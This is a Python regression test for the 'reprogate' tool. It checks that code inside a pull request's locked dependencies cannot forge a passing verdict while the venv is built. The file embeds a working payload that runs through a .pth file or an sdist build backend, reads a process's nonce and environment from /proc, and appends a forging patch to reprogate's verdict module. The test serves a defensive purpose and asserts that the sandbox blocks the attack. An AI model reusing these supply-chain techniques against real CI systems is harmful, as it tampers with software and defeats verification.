"""Issue 24's attack on the venv realizer's build steps (found by review): a wheel in the pull
request's candidate lock carries a `.pth` file, which any Python started in the new venv runs —
and uv starts one to compile bytecode. Run outside the sandbox, it read the dispatch's nonce from
reprogate's command line and patched a module reprogate had not imported yet, so that reprogate
itself wrote a passing verdict with the real nonce. An sdist's build backend (when the workflow
allows source builds) gets the same chance. The build steps now run in the sandbox too: no
reprogate process to read, no action venv to write."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from click.testing import Result
from support import FIXTURES, git
from support.gate import FakeGitHub, require_octokit, statuses
from support.locked import locked_record
from support.verdicts import NONCE

from reprogate.core.canonical import file_digest

require_octokit()
Run = Callable[..., Result]

PAYLOAD = r'''
import os, glob
def _up(pid):
    s = open("/proc/%d/stat" % pid).read()
    return int(s[s.rfind(")") + 2:].split()[1])
def _go():
    pid = os.getpid()
    for _ in range(12):
        try:
            pid = _up(pid)
            cmd = open("/proc/%d/cmdline" % pid, "rb").read().split(b"\0")
        except (OSError, ValueError):
            return
        if b"--nonce" in cmd and b"rebuild" in cmd:
            break
    else:
        return
    nonce = cmd[cmd.index(b"--nonce") + 1].decode()
    env = dict(e.split(b"=", 1) for e in open("/proc/%d/environ" % pid, "rb").read().split(b"\0") if b"=" in e)
    roots = [p.decode() for p in env.get(b"PYTHONPATH", b"").split(b":") if p]
    exe = cmd[0].decode()
    roots += glob.glob(os.path.join(os.path.dirname(os.path.dirname(exe)), "lib", "python*", "site-packages"))
    patched = []
    for root in roots:
        target = os.path.join(root, "reprogate", "rebuild", "verdict.py")
        if os.path.exists(target) and os.access(target, os.W_OK) and "_real_to_json" not in open(target).read():
            with open(target, "a") as fh:
                fh.write(PATCH)
            patched.append(target)
    proof = env.get(b"ATTACK_PROOF")
    if proof and patched:
        import json
        json.dump({"nonce": nonce, "INPUT_NONCE": env.get(b"INPUT_NONCE", b"").decode(), "RUNNER_TEMP": env.get(b"RUNNER_TEMP", b"").decode(),
                   "patched": patched, "reprogate_pid": pid}, open(proof.decode(), "w"))
PATCH = """
_real_to_json = Verdict.to_json
def _forged(self):
    found = _real_to_json(self)
    found.update(verdict="pass", diagnosis=None, infrastructure=False, exit_code=0)
    for stage in found["stages"]:
        stage["status"] = "pass"
    return found
Verdict.to_json = _forged
"""
try:
    _go()
except Exception:
    pass
'''


def evil_wheel(folder: Path) -> Path:
    name, ver = "evilpth", "1.0"
    files = {
        f"{name}.pth": "import evilpth_payload\n",
        "evilpth_payload.py": PAYLOAD,
        f"{name}-{ver}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {ver}\n",
        f"{name}-{ver}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = []
    for key, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        rows.append(f"{key},sha256={digest},{len(text.encode())}")
    rows.append(f"{name}-{ver}.dist-info/RECORD,,")
    files[f"{name}-{ver}.dist-info/RECORD"] = "\n".join(rows) + "\n"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}-{ver}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as z:
        for key, text in files.items():
            z.writestr(key, text)
    return path


def evil_sdist(folder: Path) -> Path:
    """An sdist whose in-tree build backend runs PAYLOAD when uv builds it (no build requirements)."""

    backend = (
        PAYLOAD
        + r"""
import base64, io, zipfile, hashlib
def _wheel(directory):
    name = "evilsd-1.0-py3-none-any.whl"
    files = {"evilsd/__init__.py": "", "evilsd-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilsd\nVersion: 1.0\n",
             "evilsd-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    rows = [k + ",sha256=" + base64.urlsafe_b64encode(hashlib.sha256(v.encode()).digest()).rstrip(b"=").decode() + "," + str(len(v)) for k, v in files.items()]
    files["evilsd-1.0.dist-info/RECORD"] = "\n".join(rows + ["evilsd-1.0.dist-info/RECORD,,"]) + "\n"
    with zipfile.ZipFile(directory + "/" + name, "w") as z:
        for k, v in files.items():
            z.writestr(k, v)
    return name
def get_requires_for_build_wheel(config_settings=None): return []
def prepare_metadata_for_build_wheel(d, config_settings=None):
    import os
    os.makedirs(d + "/evilsd-1.0.dist-info", exist_ok=True)
    open(d + "/evilsd-1.0.dist-info/METADATA", "w").write("Metadata-Version: 2.1\nName: evilsd\nVersion: 1.0\n")
    return "evilsd-1.0.dist-info"
def build_wheel(d, config_settings=None, metadata_directory=None): return _wheel(d)
"""
    )
    files = {
        "evilsd-1.0/pyproject.toml": (
            '[project]\nname = "evilsd"\nversion = "1.0"\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        ),
        "evilsd-1.0/backend.py": backend,
        "evilsd-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilsd\nVersion: 1.0\n",
    }
    from support.archives import sdist

    return sdist(folder / "evilsd-1.0.tar.gz", files)


@pytest.mark.parametrize("how", ["pth-wheel", "sdist-source-builds"])
def test_code_in_a_candidate_lock_cannot_reach_the_nonce_or_reprogate_while_the_venv_is_built(
    tmp_path: Path, post_status: Run, github: FakeGitHub, venv_cache: Path, how: str
) -> None:
    from reprogate.rebuild import sandbox

    if sandbox.unavailable() is not None and os.environ.get("CI") != "true":
        pytest.skip(sandbox.unavailable())
    seeds = os.environ.get("UV_FIND_LINKS")
    if not seeds and os.environ.get("CI") != "true":
        pytest.skip("no local wheelhouse for uv venv --seed")
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "projects" / "locked", repo)
    artifact = evil_wheel(repo / "wheels") if how == "pth-wheel" else evil_sdist(repo / "wheels")  # committed by the PR (an https URL works the same)
    pkg = "evilpth" if how == "pth-wheel" else "evilsd"
    sha = hashlib.sha256(artifact.read_bytes()).hexdigest()
    (repo / "requirements.txt").write_text(f"{pkg} @ {artifact.as_uri()} \\\n    --hash=sha256:{sha}\n")
    lock = {"path": "requirements.txt", "checksum": file_digest(repo / "requirements.txt"), "format": "pip-requirements"}
    record = locked_record(repo, "locked-regression", {"used": False, "reason": "venv"}, {"lock_files": [lock]})
    (repo / "reference").mkdir()
    (repo / "reference" / "trace.jsonl").write_text('{"type": "step", "step": 0, "rank": 0, "loss": 1.0}\n')
    record["reference"] = {"trace": {"path": "reference/trace.jsonl", "checksum": file_digest(repo / "reference" / "trace.jsonl")}}
    (repo / "records").mkdir()
    (repo / "records" / "locked.yaml").write_text(yaml.safe_dump(record, sort_keys=False))
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "pr head")
    head = git(repo, "rev-parse", "HEAD")

    # the action's venv as the runner holds it: a copy of reprogate the runner user may write
    import reprogate

    act = tmp_path / "runner_temp" / "reprogate-venv-site"
    shutil.copytree(Path(reprogate.__file__).parent, act / "reprogate", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(Path(reprogate.__file__).parent.parent / "schemas", act / "schemas")
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("PYTEST")},
        "PYTHONPATH": str(act),
        "INPUT_NONCE": NONCE,
        "RUNNER_TEMP": str(tmp_path / "runner_temp"),
        "GITHUB_RUN_ID": "4242",
        "GITHUB_REPOSITORY": "octo/repro",
        "ATTACK_PROOF": str(tmp_path / "proof.json"),
    }
    allow = ["--allow-source-builds"] if how == "sdist-source-builds" else []
    command = [sys.executable, "-m", "reprogate", "rebuild", "records/locked.yaml", "--environment", "candidate", "--nonce", NONCE]
    done = subprocess.run(
        [*command, *allow, "--cache", str(tmp_path / "cache"), "--format", "github"], cwd=repo, env=env, capture_output=True, text=True, timeout=900
    )
    assert not (tmp_path / "proof.json").exists(), "the package's code found reprogate and patched it"
    assert "_real_to_json" not in (act / "reprogate" / "rebuild" / "verdict.py").read_text()
    out = next((tmp_path / "runner_temp").glob("reprogate-rebuild-*"))
    verdict = json.loads((out / "verdict.json").read_text())
    assert done.returncode != 0 and verdict["verdict"] == "fail", done.stdout[-2000:] + done.stderr[-2000:]
    post_status(
        repo, head, "--from-verdict", str(out / "verdict.json"), "--expect-records", json.dumps(["records/locked.yaml"]), run_id="4242", result="failure"
    )
    assert statuses(github) != [("reprogate/reproduction", "success")]
